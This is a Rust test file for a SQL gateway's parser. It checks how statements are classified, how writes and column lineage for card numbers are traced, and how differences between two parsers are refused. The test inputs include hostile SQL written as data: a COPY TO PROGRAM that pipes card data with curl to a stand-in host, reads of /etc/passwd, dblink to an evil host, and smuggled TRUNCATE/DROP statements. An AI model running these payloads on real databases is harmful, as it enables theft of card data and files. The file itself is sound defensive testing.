//! The two readings together: what policies get for each kind of statement, and the
//! differentials that are refused.
#![allow(clippy::unwrap_used, clippy::panic)]

use super::*;
use crate::policy::CopyTarget;

fn sqls(text: &str) -> Vec<Sql> {
    parse(text)
        .unwrap_or_else(|e| panic!("{text}: {e:?}"))
        .into_iter()
        .map(|s| s.sql)
        .collect()
}

fn one(text: &str) -> Sql {
    let mut v = sqls(text);
    assert_eq!(v.len(), 1, "{text}: {v:?}");
    v.remove(0)
}
#[test]
fn splits_at_top_level_semicolons_only() {
    let v = sqls("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
    let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        ["SELECT 'a;b'", "SELECT $$x;y$$", "SELECT \"c;d\" FROM t"]
    );
    assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
    assert!(sqls("  -- only a comment\n").is_empty());
    assert!(sqls("").is_empty());
}

#[test]
fn kinds_tables_and_filters() {
    let s = one(
        "select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10",
    );
    assert_eq!(s.kind, "select");
    assert_eq!(s.tables, ["public.cards", "owners"]);
    assert!(s.has_where);
    assert_eq!(s.limit, Some(10));

    let s = one("SELECT * FROM \"Cards\" FETCH FIRST 5 ROWS ONLY");
    assert_eq!(s.tables, ["Cards"]);
    assert_eq!(s.limit, Some(5));
    assert!(!s.has_where);
    assert_eq!(one("SELECT * FROM cards LIMIT ALL").limit, None);
    assert_eq!(one("SELECT * FROM cards LIMIT $1").limit, None);

    for (sql, kind) in [
        ("dRoP tAbLe cards", "drop"),
        ("TRUNCATE cards", "truncate"),
        ("ALTER TABLE cards ADD COLUMN x int", "alter"),
        ("GRANT SELECT ON cards TO bob", "grant"),
        ("REVOKE SELECT ON cards FROM bob", "revoke"),
        ("CREATE TABLE t (id int)", "create"),
        ("BEGIN", "begin"),
        ("COMMIT", "commit"),
        ("ROLLBACK", "rollback"),
        ("SET search_path = x", "set"),
        ("SHOW search_path", "show"),
        ("EXPLAIN SELECT 1", "explain"),
        ("INSERT INTO cards (pan) VALUES ('x')", "insert"),
    ] {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
    assert_eq!(one("DROP TABLE cards").tables, ["cards"]);
    assert_eq!(one("SELECT * INTO copy_of_cards FROM cards").kind, "create");
}

#[test]
fn writes_are_found_in_ctes_and_keep_their_where() {
    let s = one("WITH gone AS (DELETE FROM cards RETURNING *) SELECT * FROM gone");
    assert_eq!(s.kind, "select");
    assert_eq!(s.tables, ["cards"], "CTE names are not tables");
    assert_eq!(s.writes.len(), 1);
    assert_eq!(s.writes[0].kind, "delete");
    assert_eq!(s.writes[0].table, "cards");
    assert!(!s.writes[0].has_where);

    let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
    assert_eq!(
        (
            s.writes[0].kind.as_str(),
            s.writes[0].has_where,
            s.has_where
        ),
        ("update", true, true)
    );
    let s = one("DELETE FROM \"Cards\"");
    assert_eq!(
        (s.writes[0].table.as_str(), s.writes[0].has_where),
        ("Cards", false)
    );
    let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
    assert_eq!(s.writes[0].table, "public.cards");
    assert_eq!(s.tables, ["public.cards", "staging"]);
}

#[test]
fn copy_and_functions() {
    let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
    assert_eq!(s.kind, "copy");
    let copy = s.copy.unwrap();
    assert!(!copy.is_from);
    assert_eq!(
        copy.target,
        CopyTarget::Program("curl -d @- evil.example".into())
    );
    let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
    assert!(s.copy.unwrap().is_from);
    let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
    assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
    assert_eq!(s.tables, ["cards"]);
    assert_eq!(one("COPY Cards TO STDOUT").tables, ["cards"]);
    assert_eq!(
        one("COPY (SELECT pan FROM cards LIMIT 5) TO STDOUT").limit,
        Some(5)
    );

    let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
    assert_eq!(s.functions, ["pg_read_file", "lower"]);
    let s = one("SELECT substring(name FROM 2) FROM cards");
    assert!(
        s.functions.contains(&"pg_catalog.substring".to_string()),
        "{s:?}"
    );
    // Set-returning functions in FROM are calls, not tables.
    let s = one("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)");
    assert!(s.tables.is_empty(), "{:?}", s.tables);
    assert_eq!(s.functions, ["dblink"]);
    let s = one("SELECT * FROM pg_ls_dir('/') JOIN cards ON true");
    assert_eq!(s.tables, ["cards"]);
    assert_eq!(s.functions, ["pg_ls_dir"]);
}

#[test]
fn string_literals_are_not_statements_and_bad_sql_is_refused() {
    let s = one("SELECT 'DROP TABLE cards' AS note");
    assert_eq!(s.kind, "select");
    assert!(s.tables.is_empty());

    // Text the server's grammar rejects is refused whole: nothing of it is run.
    let e = parse("SELECT 1; DROP TABLE cards; SELEC oops").unwrap_err();
    assert_eq!(e.code, "42601");
    assert!(e.reason.contains("syntax error"), "{e:?}");
    assert!(parse("SELECT 'unterminated").is_err());
}

#[test]
fn parser_differentials_are_closed() {
    // COPY ... FROM STDIN; then more statements: the server runs them; so do policies see them.
    let v = sqls("COPY t FROM STDIN;\nDROP TABLE victim;");
    assert_eq!((v.len(), v[1].kind.as_str()), (2, "drop"));
    // Backslashes do not escape in standard-conforming strings (pinned upstream).
    // (With standard_conforming_strings off the server would run a TRUNCATE here; the gateway
    // pins it on, so this is one SELECT of two strings for both.)
    let v = sqls(r"SELECT 'a\' , ' ; TRUNCATE t; --'");
    assert_eq!((v.len(), v[0].kind.as_str()), (1, "select"), "{v:?}");
    // U& identifiers and quoting: the function the server calls is the one policies see.
    let s = one(r#"SELECT U&"pg\005fread\005ffile"('/etc/hostname')"#);
    assert!(s.functions.iter().any(|f| f == "pg_read_file"), "{s:?}");
    let s = one(r#"SELECT "lo_export"(1, '/tmp/x')"#);
    assert!(s.functions.iter().any(|f| f == "lo_export"), "{s:?}");
    // A nested comment hides the WHERE from the server: refused, whatever sqlparser makes of it.
    let r = parse("DELETE FROM t /* /* */ WHERE id = 1 -- */\n");
    match r {
        Err(e) => assert_eq!(e.code, "0A000", "{e:?}"),
        Ok(v) => assert!(!v[0].sql.writes[0].has_where, "{v:?}"),
    }
}

#[test]
fn statement_types_settings_and_prepared_statements() {
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM cards RETURNING 1'");
    assert_eq!(
        (s.kind.as_str(), s.statement_type.as_str()),
        ("create", "CreateFunctionStmt")
    );
    let s = one("DO $$BEGIN PERFORM 1; END$$");
    assert_eq!(s.statement_type, "DoStmt");
    assert_eq!(one("SET ROLE postgres").settings, ["role"]);
    assert_eq!(
        one("LOCK TABLE cards IN ACCESS EXCLUSIVE MODE").statement_type,
        "LockStmt"
    );

    let v = parse("PREPARE s AS SELECT pan FROM cards; EXECUTE s").unwrap();
    assert_eq!(v[0].prepared, PreparedOp::Prepare("s".into()));
    let inner = v[0].inner.as_ref().unwrap();
    assert_eq!(
        (inner.kind.as_str(), inner.statement_type.as_str()),
        ("select", "SelectStmt")
    );
    assert_eq!(inner.tables, ["cards"]);
    assert_eq!(v[1].prepared, PreparedOp::Execute("s".into()));
    assert_eq!(v[1].sql.kind, "execute");
}

#[test]
fn splitting_is_linear() {
    // 20,000 statements on one line took a minute with the old splitter.
    let text = "select 1;".repeat(20_000);
    assert_eq!(parse(&text).unwrap().len(), 20_000);
}

#[test]
fn limit_is_reported_only_when_it_bounds_the_rows_read() {
    assert_eq!(
        one("SELECT pan FROM cards ORDER BY id LIMIT 5").limit,
        Some(5)
    );
    assert_eq!(
        one("SELECT lower(holder) FROM cards LIMIT 5").limit,
        Some(5)
    );
    for folded in [
        "SELECT pan FROM cards ORDER BY holder IS NULL FETCH FIRST 1 ROW WITH TIES",
        "SELECT string_agg(pan, ',') FROM cards LIMIT 1",
        "SELECT count(*) FROM cards LIMIT 1",
        "SELECT (SELECT string_agg(pan, ',') FROM cards) LIMIT 1",
        "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r WHERE i < 9) SELECT * FROM r LIMIT 1",
        "SELECT holder FROM cards GROUP BY holder LIMIT 1",
        "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY pan) FROM cards LIMIT 1",
        "SELECT row_number() OVER () FROM cards LIMIT 1",
        "SELECT pan FROM cards UNION SELECT pan FROM cards LIMIT 1",
    ] {
        assert_eq!(one(folded).limit, None, "{folded}");
    }
}

#[test]
fn a_chain_of_many_operators_does_not_overflow_the_stack() {
    // sqlparser nests one level per operator; the server's grammar flattens AND chains.
    let text = format!(
        "SELECT 1 FROM t WHERE {}",
        vec!["id > 0"; 40_000].join(" AND ")
    );
    assert!(
        describe::describe(&text)
            .sql
            .parse_error
            .as_deref()
            .unwrap_or("")
            .contains("operators")
    );
    // The server's tree describes it instead.
    let s = one(&text);
    assert_eq!(s.parse_error, None);
    assert_eq!(
        (s.kind.as_str(), s.tables.as_slice(), s.has_where),
        ("select", &["t".to_string()][..], true)
    );
}

/// What the server's tree says of a statement the second parser cannot read.
fn by_server(text: &str) -> Sql {
    assert!(
        describe::describe(text).sql.parse_error.is_some(),
        "sqlparser reads {text}: pick a text it cannot"
    );
    one(text)
}

#[test]
fn the_server_describes_what_the_second_parser_cannot_read() {
    // pg_dump's and psql's catalog queries (sqlparser refuses OPERATOR() before ANY).
    let s = by_server(
        "SELECT c.oid FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n \
         ON n.oid OPERATOR(pg_catalog.=) c.relnamespace \
         WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S']) LIMIT 5",
    );
    assert_eq!(s.parse_error, None);
    assert_eq!((s.kind.as_str(), s.has_where), ("select", true));
    // (In the order the server's summary lists them.)
    let mut tables = s.tables.clone();
    tables.sort();
    assert_eq!(tables, ["pg_catalog.pg_class", "pg_catalog.pg_namespace"]);
    assert!(s.writes.is_empty(), "{:?}", s.writes);
    // A LIMIT the second parser did not judge is unknown: an unbounded read.
    assert_eq!(s.limit, None);
    let any = "1 OPERATOR(pg_catalog.=) ANY (array[1])";
    // Writes at any depth, each with its own WHERE.
    let s = by_server(&format!(
        "WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM u WHERE {any}"
    ));
    let writes: Vec<_> = s
        .writes
        .iter()
        .map(|w| (w.kind.as_str(), w.table.as_str(), w.has_where))
        .collect();
    assert_eq!(writes, [("delete", "t", false)]);
    assert!(s.has_where);
    let s = by_server(&format!("UPDATE t SET a = 1 WHERE {any}"));
    assert_eq!(
        (s.kind.as_str(), s.writes.len(), s.writes[0].has_where),
        ("update", 1, true)
    );
    let s = by_server(&format!("UPDATE t SET a = (SELECT 1 WHERE {any})"));
    assert_eq!((s.has_where, s.writes[0].has_where), (false, false));
    let s = by_server(&format!("EXPLAIN ANALYZE DELETE FROM t WHERE {any}"));
    assert_eq!(
        (s.kind.as_str(), s.writes[0].kind.as_str()),
        ("explain", "delete")
    );
    // SELECT ... INTO creates a table.
    let s = by_server(&format!("SELECT 1 AS a INTO newt WHERE {any}"));
    assert_eq!(s.kind, "create");
    // A string continuation the second parser does not know.
    let s = by_server("DELETE FROM t WHERE x = 'a'\n'b'");
    assert_eq!((s.kind.as_str(), s.writes[0].has_where), ("delete", true));
    // COPY's endpoint only the second parser finds: still unreadable.
    let s = one(&format!("COPY (SELECT 1 WHERE {any}) TO '/tmp/x'"));
    assert!(s.parse_error.is_some(), "{s:?}");
    assert_eq!(s.kind, "copy");
}

#[test]
fn a_differential_between_the_readings_is_refused() {
    // The two parsers agree on everything the server accepts that was tried (see server.rs and
    // the attack notes); the check is what fails closed when they do not. Each reading here
    // is what one parser would make of a text the other reads differently.
    let server = server::read("DELETE FROM t WHERE id = 1").unwrap();
    let mut ours = one("DELETE FROM t");
    assert!(
        disagreement(&server, &ours).is_some(),
        "a WHERE only one reading has"
    );
    ours = one("SELECT 1 FROM t");
    let what = disagreement(&server, &ours).unwrap();
    assert!(what.contains("the server reads delete"), "{what}");
    let server = server::read("WITH d AS (DELETE FROM t RETURNING 1) SELECT 1").unwrap();
    let ours = one("SELECT 1");
    assert!(disagreement(&server, &ours).unwrap().contains("write to t"));
    // Agreement, and a statement the second parser cannot read, pass (the latter with
    // `parse-error` set for policies).
    let server = server::read("DELETE FROM t WHERE id = 1").unwrap();
    assert_eq!(
        disagreement(&server, &one("DELETE FROM t WHERE id = 1")),
        None
    );
    let s = one("COPY t FROM STDIN WHERE x = 'a'\n'b'");
    assert!(s.parse_error.is_some());
    assert_eq!(
        (s.kind.as_str(), s.statement_type.as_str()),
        ("copy", "CopyStmt")
    );
    assert_eq!(s.tables, ["t"]);
}

/// How `cards.pan` is used by `text`: the set of usages, as letters (o, t, f).
fn pan_usage(text: &str) -> String {
    pan_usage_in(&one(text).columns)
}

/// How `cards.pan` (or every column of it, or of an unknown table) is used in `columns`: the
/// set of usages, as letters (o, t, f). Shared with `views.rs`.
pub(super) fn pan_usage_in(columns: &[crate::policy::ColumnUse]) -> String {
    use crate::policy::ColumnUsage;
    let mut u: Vec<char> = columns
        .iter()
        .filter(|c| {
            (c.column == "pan" || c.column == "*") && (c.table == "cards" || c.table.is_empty())
        })
        .map(|c| match c.usage {
            ColumnUsage::Output => 'o',
            ColumnUsage::Transformed => 't',
            ColumnUsage::Filter => 'f',
        })
        .collect();
    u.sort_unstable();
    u.dedup();
    u.into_iter().collect()
}

/// What the second attack got through: a join's alias renaming the columns, a set operation
/// whose first branch names the column, and a column list so long that following it grew with
/// its square (a stall, then an abort).
#[test]
fn lineage_follows_join_aliases_set_operations_and_long_column_lists() {
    for text in [
        "SELECT substr(x.p, 1, 8) FROM (cards c JOIN cards d USING (id)) AS x(i, h, p)",
        "SELECT reverse(x) FROM (SELECT 'a' AS x UNION ALL SELECT pan FROM cards) s",
        "WITH t AS (SELECT 'a' AS x UNION ALL SELECT pan FROM cards) SELECT reverse(x) FROM t",
        "SELECT md5(j.x) FROM (cards JOIN owners ON true) AS j(x)",
    ] {
        assert!(pan_usage(text).contains('t'), "{text}: {}", pan_usage(text));
    }
    let n = 3000;
    let names: Vec<String> = (0..n).map(|i| format!("c{i}")).collect();
    let text = format!(
        "SELECT {} FROM (SELECT {} FROM cards) s({})",
        names.join(", "),
        vec!["pan"; n].join(", "),
        names.join(", ")
    );
    assert_eq!(pan_usage(&text), "o");
}

#[test]
fn lineage_tells_a_column_sent_as_it_is_from_one_transformed() {
    for (text, want) in [
        ("SELECT pan FROM cards", "o"),
        ("SELECT c.pan AS p FROM cards c WHERE id = 1", "o"),
        ("SELECT * FROM cards", "o"),
        ("SELECT c.* FROM cards c", "o"),
        ("SELECT c FROM cards c", "o"),
        (
            "SELECT holder FROM cards WHERE pan = '4111111111111111'",
            "f",
        ),
        ("SELECT holder FROM cards ORDER BY pan", "f"),
        (
            "SELECT holder FROM cards WHERE pan LIKE '4111%' OR pan IN ('1', '2')",
            "f",
        ),
        (
            "SELECT holder FROM cards WHERE pan IS NOT NULL AND pan BETWEEN '1' AND '5'",
            "f",
        ),
        // In a filter, anything computed from the column can leave as an error or a side
        // effect: a cast's error quotes the value, set_config and pg_notify carry it out.
        ("SELECT holder FROM cards ORDER BY reverse(pan)", "t"),
        (
            "SELECT id FROM cards WHERE (pan::money::text)::int = 0",
            "t",
        ),
        (
            "SELECT count(*) FROM cards WHERE set_config('x.a', pan, false) IS NOT NULL",
            "t",
        ),
        (
            "SELECT 1 FROM cards WHERE pg_notify('ch', reverse(pan)) IS NULL",
            "t",
        ),
        (
            "SELECT c.id FROM cards c, generate_series(1, 16) p(i) WHERE substr(c.pan, p.i, 1) = '4'",
            "t",
        ),
        // Renamed by a column list: whatever the new name is, it is one of the table's columns.
        ("SELECT reverse(x) FROM cards c(i, h, x)", "t"),
        ("SELECT reverse(x) FROM (SELECT pan FROM cards) s(x)", "ot"),
        (
            "WITH t(x) AS (SELECT pan FROM cards) SELECT reverse(x) FROM t",
            "ot",
        ),
        (
            "SELECT reverse(x) FROM cards c, LATERAL (VALUES (c.pan)) v(x)",
            "ot",
        ),
        (
            "SELECT reverse(column1) FROM (VALUES ((SELECT pan FROM cards WHERE id = 1))) v",
            "ot",
        ),
        // Writes launder the value out of the column: copying it is refused like transforming.
        ("UPDATE cards SET note = pan WHERE id = 2 RETURNING id", "t"),
        ("INSERT INTO owners (name) SELECT pan FROM cards", "t"),
        ("CREATE TEMP TABLE t1 AS SELECT pan FROM cards", "t"),
        ("CREATE TEMP VIEW v1 AS SELECT pan FROM cards", "t"),
        ("SELECT pan INTO TEMP t2 FROM cards", "t"),
        (
            "SELECT holder FROM cards c JOIN owners o ON o.pan = c.pan",
            "f",
        ),
        ("SELECT reverse(pan) FROM cards", "t"),
        ("SELECT substr(pan, 1, 6), substr(pan, 7) FROM cards", "t"),
        (
            "SELECT encode(convert_to(pan, 'UTF8'), 'base64') FROM cards",
            "t",
        ),
        ("SELECT pan::bigint + 1 FROM cards", "t"),
        ("SELECT string_agg(pan, '') FROM cards", "t"),
        ("SELECT row_to_json(c) FROM cards c", "t"),
        ("SELECT pan || '' FROM cards", "t"),
        ("SELECT CASE WHEN pan LIKE '4%' THEN 1 END FROM cards", "t"),
        ("SELECT upper(x) FROM (SELECT pan AS x FROM cards) s", "ot"),
        (
            "WITH t AS (SELECT pan AS p FROM cards) SELECT reverse(p) FROM t",
            "ot",
        ),
        (
            "SELECT pan FROM cards UNION SELECT reverse(pan) FROM cards",
            "ot",
        ),
        ("UPDATE cards SET note = reverse(pan) WHERE id = 1", "t"),
        (
            "INSERT INTO owners (name) SELECT translate(pan, '1', 'x') FROM cards",
            "t",
        ),
        ("SELECT (SELECT max(pan) FROM cards)", "t"),
        (
            "COPY (SELECT regexp_replace(pan, '(\\d)', '\\1.', 'g') FROM cards) TO STDOUT",
            "t",
        ),
        ("DELETE FROM cards WHERE pan = '1' RETURNING pan", "fo"),
        // The third attack's F3: an expression in a top-level RETURNING list.
        (
            "update cards set holder=holder where id>0 returning id, translate(pan,'0123456789','abcdefghij'), reverse(pan_varchar)",
            "t",
        ),
        (
            "insert into cards(id,holder) values (4,'Dan') on conflict (id) do update set holder=excluded.holder returning translate(pan,'0','a')",
            "t",
        ),
        (
            "delete from cards where id=5 returning translate(pan,'0','a')",
            "t",
        ),
        (
            "update owners set name=name where id=1 returning (select string_agg(translate(pan,'0','a'),',') from cards)",
            "t",
        ),
        // The fourth attack's F2: ordering, grouping or DISTINCT ON by position or output name.
        ("select id, pan from cards order by 2 limit 1", "fo"),
        ("select id, pan p from cards order by p limit 1", "fo"),
        ("select distinct on (2) id, pan from cards", "fo"),
        ("select pan, count(*) from cards group by 1", "fo"),
        ("select id, reverse(pan) r from cards order by id", "t"),
        // The fourth attack's F1: a join's USING list and a NATURAL join compare columns.
        (
            "select d.holder from cards c join cards d using (pan) where c.id = 8",
            "f",
        ),
        ("select c.id from cards c natural join cards d", "f"),
        // The third attack's F8: a whole row passed on under another name.
        (
            "select translate((x).pan,'0','a') from (select c as x from cards c limit 5) s",
            "ot",
        ),
        (
            "with w as (select c as x from cards c) select reverse((x).pan) from w",
            "ot",
        ),
        (
            "UPDATE cards SET holder = 'x' WHERE pan = '1' RETURNING pan",
            "fo",
        ),
    ] {
        assert_eq!(pan_usage(text), want, "{text}");
    }
    // Resolved through aliases, schema and all.
    let sql = one("SELECT lower(x.pan) FROM public.cards x, owners");
    assert!(
        sql.columns
            .iter()
            .any(|c| c.table == "public.cards" && c.column == "pan"),
        "{:?}",
        sql.columns
    );
    assert!(one("SELECT 1").columns.is_empty());
}
